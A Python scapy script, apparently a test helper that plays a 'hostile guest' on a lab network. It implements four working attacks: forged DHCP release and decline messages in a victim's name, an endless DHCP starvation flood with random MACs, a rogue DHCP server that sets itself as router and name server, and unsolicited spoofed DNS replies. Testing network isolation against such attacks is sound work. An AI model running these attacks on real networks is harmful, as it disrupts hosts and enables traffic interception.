"""What a hostile guest says to the DHCP and DNS servers of its network, and in their name.

guest_dhcp.py forge|flood|impersonate|answer OPTIONS (JSON); prints as JSON how many frames it sent.
"""

import json
import os
import socket
import sys
import time

from scapy.config import conf

conf.verb = 0
from scapy.all import BOOTP, DHCP, DNS, DNSQR, DNSRR, IP, UDP, Ether, raw  # noqa: E402

BROADCAST = "ff:ff:ff:ff:ff:ff"
# Offsets in a frame without IP options: of the source MAC, of BOOTP's transaction and hardware address.
SOURCE, TRANSACTION, HARDWARE = 6, 46, 70


def octets(mac):
    return bytes.fromhex(mac.replace(":", ""))


def dhcp(message, source, chaddr, *, ip="0.0.0.0", to="255.255.255.255", ciaddr="0.0.0.0", options=()):
    frame = Ether(dst=BROADCAST, src=source) / IP(src=ip, dst=to) / UDP(sport=68, dport=67)
    words = [("message-type", message), *options, "end"]
    return raw(frame / BOOTP(op=1, chaddr=octets(chaddr), ciaddr=ciaddr, xid=7) / DHCP(options=words))


def forged(own, victim, server):
    """Gives back what the victim has, in its name: by the hostile guest's MAC, and by the victim's."""
    named = [("server_id", server), ("requested_addr", victim["ipv4"])]
    for source in (own["mac"], victim["mac"]):
        for ip in ("0.0.0.0", victim["ipv4"]):
            yield dhcp("release", source, victim["mac"], ip=ip, ciaddr=victim["ipv4"], options=named[:1])
        yield dhcp("decline", source, victim["mac"], options=named)
    identity = [("client_id", b"\x01" + octets(victim["mac"]))]
    yield dhcp("release", own["mac"], own["mac"], ciaddr=victim["ipv4"], options=[*named[:1], *identity])
    yield dhcp("decline", own["mac"], own["mac"], options=[*named, *identity])


def flood(own):
    """Ever new clients, each with the MAC of its frame, without end."""
    frame = bytearray(dhcp("discover", own["mac"], own["mac"]))
    while True:
        mac = b"\x02" + os.urandom(5)
        frame[SOURCE : SOURCE + 6] = frame[HARDWARE : HARDWARE + 6] = mac
        frame[TRANSACTION : TRANSACTION + 4] = mac[:4]
        yield bytes(frame)


def impersonation(own, victim, server):
    """Offers, acknowledgements and refusals that nobody but the network's own server may send, without end."""
    lies = [("server_id", own["ipv4"]), ("lease_time", 3600), ("subnet_mask", "255.255.255.0"),
            ("router", own["ipv4"]), ("name_server", own["ipv4"])]
    while True:
        for kind, told in (("offer", lies), ("ack", lies), ("nak", [("server_id", server)])):
            for to, mac in (("255.255.255.255", BROADCAST), (victim["ipv4"], victim["mac"])):
                frame = Ether(dst=mac, src=own["mac"]) / IP(src=own["ipv4"], dst=to)
                answer = BOOTP(op=2, yiaddr="10.20.0.66", chaddr=octets(victim["mac"]), xid=7)
                options = DHCP(options=[("message-type", kind), *told, "end"])
                yield raw(frame / UDP(sport=67, dport=68) / answer / options)


def answers(own, server, gateway):
    """Answers to questions nobody asked, without end."""
    said = DNS(id=7, qr=1, aa=1, qd=DNSQR(qname="near.lab.example"),
               an=DNSRR(rrname="near.lab.example", rdata=own["ipv4"], ttl=3600))
    while True:
        ip = IP(src=own["ipv4"], dst=server)
        yield raw(Ether(dst=gateway, src=own["mac"]) / ip / UDP(sport=53, dport=53) / said)


def send(device, frames, per_second, seconds):
    """As many as can be at the rate; those for which there is no room are sent again."""
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    link.bind((device, 0))
    began = time.monotonic()
    count = 0
    for frame in frames:
        ahead = count / per_second - (time.monotonic() - began)
        if ahead > 0.002:
            time.sleep(ahead)
        if time.monotonic() - began >= seconds:
            break
        try:
            link.send(frame)
            count += 1
        except OSError:
            time.sleep(0.001)
    print(json.dumps({"sent": count, "seconds": time.monotonic() - began}))


def main():
    what, options = sys.argv[1], json.loads(sys.argv[2])
    own, server = options["own"], options["server"]
    if what == "forge":
        frames = forged(own, options["victim"], server)
    elif what == "flood":
        frames = flood(own)
    elif what == "impersonate":
        frames = impersonation(own, options["victim"], server)
    else:
        frames = answers(own, server, options["gateway"])
    print("ready", flush=True)
    send(options["device"], frames, options["perSecond"], options["seconds"])


main()
